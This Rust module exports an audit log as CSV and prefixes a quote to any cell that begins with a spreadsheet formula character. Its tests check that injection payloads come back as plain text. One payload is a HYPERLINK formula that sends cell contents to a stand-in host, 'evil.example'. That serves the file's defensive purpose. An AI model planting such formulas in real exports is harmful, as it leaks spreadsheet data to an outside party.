//! The audit log as CSV, written by the `csv` crate, with every cell that a
//! spreadsheet would run as a formula neutralised: a cell starting with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so a
//! rejection reason such as `=HYPERLINK(…)` opens as the text it is. (The
//! JSON Lines export is left exact: it is for machines and verification.)

use app::domain::audit::StoredEntry;
use std::borrow::Cow;

/// The header row's cells.
const HEADER: [&str; 10] = [
    "id",
    "at",
    "actor",
    "actor_subject",
    "actor_role",
    "action",
    "review_id",
    "detail",
    "prev_hash",
    "hash",
];

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet will show it, never run it.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The header row (with its newline).
pub fn header() -> Result<Vec<u8>, csv::Error> {
    write(|writer| writer.write_record(HEADER))
}

/// Rows for `entries` (each with its newline).
pub fn rows(entries: &[StoredEntry]) -> Result<Vec<u8>, csv::Error> {
    write(|writer| {
        for entry in entries {
            let c = &entry.content;
            let (id, at) = (entry.id.to_string(), c.at_ms.to_string());
            let cells = [
                id.as_str(),
                at.as_str(),
                &c.actor,
                c.actor_subject.as_deref().unwrap_or_default(),
                c.actor_role.as_deref().unwrap_or_default(),
                &c.action,
                c.review_id.as_deref().unwrap_or_default(),
                c.detail.as_deref().unwrap_or_default(),
                &entry.prev_hash,
                &entry.hash,
            ];
            writer.write_record(cells.map(neutralise).iter().map(|cell| cell.as_bytes()))?;
        }
        Ok(())
    })
}

fn write(
    fill: impl FnOnce(&mut csv::Writer<Vec<u8>>) -> Result<(), csv::Error>,
) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    fill(&mut writer)?;
    writer.into_inner().map_err(|e| e.into_error().into())
}

#[cfg(test)]
mod tests {
    use super::*;
    use app::domain::audit::AuditContent;
    use app::domain::audit_action::Action;

    fn entries(details: &[&str]) -> Vec<StoredEntry> {
        details
            .iter()
            .enumerate()
            .map(|(i, detail)| StoredEntry {
                id: i as i64 + 1,
                content: AuditContent::system(
                    i as i64,
                    Action::Rejected,
                    Some("r1"),
                    Some((*detail).to_owned()),
                ),
                prev_hash: "-0".into(),
                hash: "+1".into(),
            })
            .collect()
    }

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn formula_cells_read_back_as_text() {
        let attacks = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tindented =1",
            "\r=1",
        ];
        let mut file = header().unwrap();
        file.extend(rows(&entries(&attacks)).unwrap());
        let table = read_back(&file);
        assert_eq!(table[0], HEADER);
        assert_eq!(table.len(), attacks.len() + 1);
        for (row, attack) in table[1..].iter().zip(attacks) {
            assert_eq!(row.len(), HEADER.len());
            assert_eq!(
                row[7],
                format!("'{attack}"),
                "the text is kept, neutralised"
            );
            for cell in row {
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} would run");
            }
        }
    }

    #[test]
    fn ordinary_cells_are_unchanged_and_quoted_when_needed() {
        let detail = "a, \"quoted\" detail\nover two lines";
        let table = read_back(&rows(&entries(&[detail, "plain 3-2"])).unwrap());
        assert_eq!(table[0][7], detail);
        assert_eq!(table[1][7], "plain 3-2");
        assert_eq!(table[0][5], "rejected");
    }

    #[test]
    fn only_a_leading_formula_character_counts() {
        assert_eq!(neutralise("a=b"), "a=b");
        assert_eq!(neutralise("=b"), "'=b");
        assert_eq!(neutralise(""), "");
    }
}
